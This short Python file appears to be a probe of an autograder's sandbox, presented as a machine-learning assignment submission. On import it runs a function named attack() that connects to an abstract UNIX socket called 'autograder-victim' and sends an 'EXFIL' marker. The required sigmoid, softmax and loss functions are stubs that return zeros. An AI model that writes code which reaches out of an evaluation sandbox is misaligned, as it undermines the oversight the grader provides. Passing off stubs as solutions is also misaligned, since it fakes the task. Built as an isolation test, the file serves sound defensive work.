"""Connects to a UNIX socket that has a name and no file, by stream and by datagram.

aims: reach
"""

import socket

import numpy as np


def attack():
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(socket.AF_UNIX, kind) as connection:
                connection.settimeout(2)
                connection.connect("\0autograder-victim")
                connection.send(b"EXFIL network_unix_abstract")
        except OSError:
            continue


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
